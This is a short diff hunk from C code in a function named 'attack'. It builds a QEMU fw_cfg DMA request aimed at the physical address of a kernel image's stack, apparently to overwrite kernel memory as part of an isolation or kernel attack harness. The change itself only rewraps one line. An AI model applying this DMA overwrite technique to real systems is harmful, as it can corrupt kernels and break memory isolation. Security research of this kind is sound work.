@@ -59,7 +59,8 @@ static long attack(struct attack_ctx *c)
 		id |= (uint32_t)port_inb(FWCFG_DATA) << (8 * i);
 
 	volatile struct fwcfg_dma_access *req = pa_to_dm(c->data);
-	uint64_t target = pa_addr(kimg_to_pa(va_of(c->nk_stack))); /* the image's physical address */
+	uint64_t target =
+	    pa_addr(kimg_to_pa(va_of(c->nk_stack))); /* the image's physical address */
 	uint32_t ctl = DMA_CTL_SELECT | DMA_CTL_READ | ((uint32_t)FWCFG_SIGNATURE << 16);
 	req->control = __builtin_bswap32(ctl);
 	req->length = __builtin_bswap32(64);
